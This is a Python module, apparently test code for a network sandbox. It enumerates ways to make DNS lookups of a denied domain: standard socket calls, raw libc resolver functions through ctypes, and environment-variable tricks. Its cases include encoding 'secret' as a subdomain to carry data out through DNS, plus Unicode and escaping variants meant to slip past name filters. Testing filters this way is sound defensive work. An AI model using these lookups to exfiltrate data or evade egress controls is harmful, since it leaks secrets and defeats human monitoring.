"""Names that are looked up: the question that the name server gets is the effect, as it carries data out."""

import ctypes
import os
import socket
import tempfile

from targets import NAME, PORT, checked, libc
from ways import in_child, in_thread, way, ways

_TYPE_A, _CLASS_IN = 1, 1


def _getaddrinfo(name=NAME):
    return len(socket.getaddrinfo(name, PORT, socket.AF_INET, socket.SOCK_STREAM))


@ways("getaddrinfo")
def _getaddrinfos():
    return {
        "name": _getaddrinfo,
        "any_family": lambda: len(socket.getaddrinfo(NAME, PORT, type=socket.SOCK_STREAM)),
        "ipv6": lambda: len(socket.getaddrinfo(NAME, PORT, socket.AF_INET6, socket.SOCK_STREAM)),
        "below": lambda: _getaddrinfo("c2VjcmV0." + NAME),
        "far_below": lambda: _getaddrinfo(".".join(["a" * 60] * 3) + "." + NAME),
        "upper_case": lambda: _getaddrinfo("DENIED.Example"),
        "final_dot": lambda: _getaddrinfo(NAME + "."),
        "bytes": lambda: _getaddrinfo(NAME.encode()),
        "wide_letters": lambda: _getaddrinfo("\uff44\uff45\uff4e\uff49\uff45\uff44.example"),
        "wide_dot": lambda: _getaddrinfo("denied\u3002example"),
        "escaped": lambda: _getaddrinfo("\\100enied.example"),
        "in_thread": lambda: in_thread(_getaddrinfo),
        "in_child": lambda: in_child(_getaddrinfo),
    }


@way
def gethostbyname():
    return socket.gethostbyname(NAME)


@way
def gethostbyname_ex():
    return socket.gethostbyname_ex(NAME)


@way
def getfqdn():
    """Answers with what it was given where there is no answer."""
    return socket.getfqdn(NAME)


@way
def create_connection_by_name():
    return socket.create_connection((NAME, PORT), 5).close()


@way
def urllib_by_name():
    import urllib.request

    with urllib.request.urlopen(f"http://{NAME}:{PORT}/", timeout=5) as answer:
        return answer.status


class NameServerError(OSError):
    """No answer; its errno is one of h_errno."""


def _with_variable(name, value, attack):
    """Look up in a child. The C library reads the variable with its configuration, which looks as if it had changed."""

    def child():
        os.environ[name] = value
        os.utime("/etc/resolv.conf")
        libc()["__res_init"]()
        try:
            attack()
        except OSError:
            os._exit(77)

    return in_child(child)


def _by_alias(names, attack):
    with tempfile.NamedTemporaryFile("w") as aliases:
        aliases.write(names)
        aliases.flush()
        return _with_variable("HOSTALIASES", aliases.name, attack)


@ways("variable")
def _variables():
    """The C library makes a name of the denied domain from a short one."""
    return {
        "search": lambda: _with_variable("LOCALDOMAIN", NAME, lambda: _getaddrinfo("c2VjcmV0")),
        "search_second": lambda: _with_variable(
            "LOCALDOMAIN", "example.org " + NAME, lambda: socket.gethostbyname("c2VjcmV0")
        ),
        "search_query": lambda: _with_variable(
            "LOCALDOMAIN", NAME, lambda: _query("res_search", b"c2VjcmV0")
        ),
        "alias": lambda: _by_alias(f"short {NAME}\n", lambda: _getaddrinfo("short")),
        "alias_query": lambda: _by_alias(f"short {NAME}\n", lambda: _query("res_search", b"short")),
    }


def _query(call, *arguments):
    answer = ctypes.create_string_buffer(4096)
    library = libc()
    library["__res_init"]()
    length = library[call](*arguments, _CLASS_IN, _TYPE_A, answer, len(answer))
    if length < 0:
        raise NameServerError(_h_errno(), "the name server gave no answer")
    return length


def _h_errno():
    location = libc()["__h_errno_location"]
    location.restype = ctypes.POINTER(ctypes.c_int)
    return location()[0]


def _state():
    state = libc()["__res_state"]
    state.restype = ctypes.c_void_p
    return ctypes.c_void_p(state())


def _made():
    """A question as the C library makes it."""
    question = ctypes.create_string_buffer(512)
    libc()["__res_init"]()
    name = NAME.encode()
    length = libc()["res_mkquery"](0, name, _CLASS_IN, _TYPE_A, None, 0, None, question, len(question))
    return question, checked(length)


def _send(call, *first):
    question, length = _made()
    answer = ctypes.create_string_buffer(4096)
    result = libc()[call](*first, question, length, answer, len(answer))
    return checked(result)


@ways("ctypes_res")
def _res():
    name = NAME.encode()
    return {
        "query": lambda: _query("res_query", name),
        "query_escaped": lambda: _query("res_query", b"\\100enied.example"),
        "search": lambda: _query("res_search", name),
        "querydomain": lambda: _query("res_querydomain", b"denied", b"example"),
        "nquery": lambda: _query("res_nquery", _state(), name),
        "nsearch": lambda: _query("res_nsearch", _state(), name),
        "nquerydomain": lambda: _query("res_nquerydomain", _state(), b"denied", b"example"),
        "send": lambda: _send("res_send"),
        "nsend": lambda: _send("res_nsend", _state()),
    }


def _hosts(call, *arguments):
    """The C library's older functions: an entry, or NULL and h_errno."""
    function = libc()[call]
    function.restype = ctypes.c_void_p
    if not function(*arguments):
        raise NameServerError(_h_errno(), "the name has no address")
    return "found"


def _reentrant(call, *arguments):
    entry, buffer = ctypes.create_string_buffer(64), ctypes.create_string_buffer(4096)
    found, error = ctypes.c_void_p(), ctypes.c_int()
    places = (entry, buffer, ctypes.c_size_t(len(buffer)), ctypes.byref(found), ctypes.byref(error))
    libc()[call](*arguments, *places)
    if not found.value:
        raise NameServerError(error.value, "the name has no address")
    return "found"


def _info(function):
    """Call getaddrinfo itself; its answer is an error's number."""
    found = ctypes.c_void_p()
    return function(NAME.encode(), b"7000", None, ctypes.byref(found))


@ways("ctypes")
def _ctypes():
    name = NAME.encode()
    return {
        "getaddrinfo": lambda: _info(libc().getaddrinfo),
        "gethostbyname": lambda: _hosts("gethostbyname", name),
        "gethostbyname2": lambda: _hosts("gethostbyname2", name, socket.AF_INET6),
        "gethostbyname_r": lambda: _reentrant("gethostbyname_r", name),
        "gethostbyname2_r": lambda: _reentrant("gethostbyname2_r", name, socket.AF_INET),
        "getnetbyname": lambda: _of_networks(_hosts, "getnetbyname", name),
        "getnetbyname_r": lambda: _of_networks(_reentrant, "getnetbyname_r", name),
    }


def _of_networks(ask, call, name):
    """Names of networks are looked for where the settings say; the function changes them for itself."""
    libc().__nss_configure_lookup(b"networks", b"dns")
    return ask(call, name)
